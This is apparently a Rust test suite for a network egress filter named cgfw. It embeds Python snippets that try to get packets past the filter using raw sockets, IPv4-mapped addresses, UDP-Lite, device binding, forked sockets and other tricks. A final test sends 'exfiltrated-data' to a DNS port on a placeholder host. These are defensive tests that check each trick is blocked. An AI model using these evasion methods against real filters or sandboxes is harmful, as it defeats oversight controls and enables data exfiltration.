//! Ways round a filter that others had to learn of (THREATS in the issue), each proven
//! to work without cgfw and not to work behind it.

use crate::support::Lab;
use crate::support::command::Test;

const TARGET: [u8; 4] = [203, 0, 113, 99];
const TARGET_V6: [u16; 8] = [0x2001, 0xdb8, 0x200, 0, 0, 0, 0, 0x99];
const PRELUDE: &str = "
import ctypes, socket, struct, sys
T4, T6, PORT = '203.0.113.99', '2001:db8:200::99', 9
def attempt(call):
    try:
        call()
    except OSError as error:
        print(error)
def udp(family=socket.AF_INET, protocol=0):
    return socket.socket(family, socket.SOCK_DGRAM, protocol)
";

/// `script` gets a packet to the target without cgfw, and none with it.
#[track_caller]
fn check(script: &str) {
    let Some(lab) = Lab::new() else { return };
    let arrived = |test: Test<'_>| {
        let sniffer = lab.sniff();
        test.any_status().run();
        sniffer.packets_to(TARGET).len()
            + sniffer
                .packets_to(std::net::Ipv6Addr::from(TARGET_V6))
                .len()
    };
    let script = format!("{PRELUDE}\n{script}");
    let bare = arrived(lab.command("python3").args(["-c", &script]));
    assert!(bare > 0, "the script does not work even without cgfw");
    for options in [
        ["--block", "203.0.113.99,2001:db8:200::99"],
        ["--allow", "example.com"],
    ] {
        let out = arrived(lab.cgfw().args(options).child(["python3", "-c", &script]));
        assert_eq!(out, 0, "{options:?}: {out} packets got out");
    }
}

#[test]
fn tcp_connect() {
    check("attempt(lambda: socket.create_connection((T4, 80), 1))");
    check("attempt(lambda: socket.create_connection((T6, 80), 1))");
}

#[test]
fn udp_sendto() {
    check("attempt(lambda: udp().sendto(b'x', (T4, PORT)))");
    check("attempt(lambda: udp(socket.AF_INET6).sendto(b'x', (T6, PORT)))");
}

#[test]
fn udp_sendmsg_and_sendmmsg() {
    check("attempt(lambda: udp().sendmsg([b'x'], [], 0, (T4, PORT)))");
    check(
        "
libc = ctypes.CDLL(None, use_errno=True)
address = struct.pack('=HH4s8x', socket.AF_INET, socket.htons(PORT), socket.inet_aton(T4))
name = ctypes.create_string_buffer(address, len(address))
data = ctypes.create_string_buffer(b'x')
vector = struct.pack('@PN', ctypes.addressof(data), 1)
vector = ctypes.create_string_buffer(vector, len(vector))
header = struct.pack('@PIxxxxPNPNixxxxIxxxx', ctypes.addressof(name), len(address),
                     ctypes.addressof(vector), 1, 0, 0, 0, 0)
header = ctypes.create_string_buffer(header, len(header))
s = udp()
print(libc.sendmmsg(s.fileno(), header, 1, 0), ctypes.get_errno())",
    );
}

#[test]
fn udp_connected() {
    check("s = udp(); attempt(lambda: (s.connect((T4, PORT)), s.send(b'x')))");
}

#[test]
fn v4_mapped() {
    check("attempt(lambda: socket.create_connection(('::ffff:' + T4, 80), 1))");
    check("attempt(lambda: udp(socket.AF_INET6).sendto(b'x', ('::ffff:' + T4, PORT)))");
}

#[test]
fn unspecified_family() {
    check(
        "
libc = ctypes.CDLL(None, use_errno=True)
address = struct.pack('=HH4s8x', socket.AF_UNSPEC, socket.htons(PORT), socket.inet_aton(T4))
s = udp()
print(libc.sendto(s.fileno(), b'x', 1, 0, address, len(address)), ctypes.get_errno())",
    );
}

#[test]
fn udp_lite() {
    check("s = udp(protocol=136); attempt(lambda: (s.connect((T4, PORT)), s.send(b'x')))");
    check("attempt(lambda: udp(protocol=136).sendto(b'x', (T4, PORT)))");
}

#[test]
fn raw_sockets() {
    check(
        "
def send():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 29, 1, 0, 64, 17, 0,
                         socket.inet_aton('192.0.2.10'), socket.inet_aton(T4))
    raw.sendto(header + struct.pack('!HHHH', 9, 9, 9, 0) + b'x', (T4, 0))
attempt(send)",
    );
    check(
        "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 47).sendto(b'x', (T4, 0)))",
    );
}

#[test]
fn a_raw_ping_socket_with_a_header_of_its_own() {
    check(
        "
def send():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for port in [9, 53]:
        header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 29, 1, 0, 64, 17, 0,
                             socket.inet_aton('192.0.2.10'), socket.inet_aton(T4))
        attempt(lambda: raw.sendto(header + struct.pack('!HHHH', 9, port, 9, 0) + b'x', (T4, 0)))
attempt(send)",
    );
}

#[test]
fn bound_to_a_device_or_with_a_loopback_address() {
    check(
        "
def send():
    s = udp()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    s.sendto(b'x', (T4, PORT))
attempt(send)",
    );
}

/// 127.0.0.1 is an address of the host, and what is for port 53 is sent there.
#[test]
fn a_loopback_address_that_leaves_on_the_wire() {
    let Some(lab) = Lab::new() else { return };
    let script = "
import socket
for target in [('127.0.0.99', 9), ('127.0.0.1', 9), ('203.0.113.99', 53)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    try:
        s.sendto(b'loopback-on-the-wire', target)
    except OSError as error:
        print(error)
";
    let sent = |test: Test<'_>| {
        let sniffer = lab.sniff();
        test.run();
        sniffer.packets_with(b"loopback-on-the-wire").len()
    };
    assert_eq!(sent(lab.command("python3").args(["-c", script])), 3);
    for policy in [["--allow", "example.com"], ["--block", "example.com"]] {
        let out = sent(lab.cgfw().args(policy).child(["python3", "-c", script]));
        assert_eq!(out, 0, "{policy:?}: {out} packets got out");
    }
}

#[test]
fn ip_options_and_extension_headers() {
    check(
        "
def send():
    s = udp()
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\x01' * 40)
    s.sendto(b'x', (T4, PORT))
attempt(send)",
    );
    check(
        "
def send():
    s = udp(socket.AF_INET6)
    options = b'\\x00\\x00\\x01\\x04' + bytes(4)
    s.sendmsg([b'x'], [(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, options)], 0, (T6, PORT))
attempt(send)",
    );
}

#[test]
fn tcp_fast_open() {
    check("attempt(lambda: socket.socket().sendto(b'x', socket.MSG_FASTOPEN, (T4, 80)))");
}

#[test]
fn multipath_tcp() {
    check(
        "
def send():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.settimeout(1)
    s.connect((T4, 80))
attempt(send)",
    );
}

#[test]
fn source_port_53() {
    check(
        "
def send():
    s = udp()
    s.bind(('', 53))
    s.sendto(b'x', (T4, PORT))
attempt(send)",
    );
}

#[test]
fn corked_udp() {
    check(
        "
def send():
    s = udp()
    s.sendto(b'x', socket.MSG_MORE, (T4, PORT))
    s.sendto(b'y', (T4, PORT))
attempt(send)",
    );
}

#[test]
fn ping_socket() {
    check(
        "
def send():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b'x', (T4, 0))
attempt(send)",
    );
    check(
        "
def send():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    s.sendto(bytes([128, 0, 0, 0, 0, 1, 0, 1]) + b'x', (T6, 0))
attempt(send)",
    );
}

#[test]
fn a_socket_shared_with_a_forked_child() {
    check(
        "
import os
s = udp()
if os.fork() == 0:
    attempt(lambda: s.sendto(b'x', (T4, PORT)))
    os._exit(0)
os.wait()",
    );
}

#[test]
fn disconnected_and_connected_again() {
    check(
        "
libc = ctypes.CDLL(None)
def send():
    s = udp()
    s.connect(('127.0.0.1', 53))
    libc.connect(s.fileno(), struct.pack('=H14x', socket.AF_UNSPEC), 16)
    s.connect((T4, PORT))
    s.send(b'x')
attempt(send)",
    );
}

#[test]
fn a_different_address_than_the_connected_one() {
    check("s = udp(); s.connect(('203.0.113.20', 9)); attempt(lambda: s.sendto(b'x', (T4, PORT)))");
}

#[test]
fn dns_port_at_another_server_carries_no_data() {
    let Some(lab) = Lab::new() else { return };
    let script = "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'exfiltrated-data', ('203.0.113.99', 53))
t = socket.socket()
t.settimeout(1)
try:
    t.connect(('203.0.113.99', 53))
    t.sendall(b'exfiltrated-data')
    t.recv(10)
except OSError:
    pass
";
    let sniffer = lab.sniff();
    lab.command("python3").args(["-c", script]).run();
    assert!(!sniffer.packets_with(b"exfiltrated-data").is_empty());
    let sniffer = lab.sniff();
    lab.cgfw()
        .args(["--block", "github.com"])
        .child(["python3", "-c", script])
        .run();
    assert!(sniffer.packets_with(b"exfiltrated-data").is_empty());
}
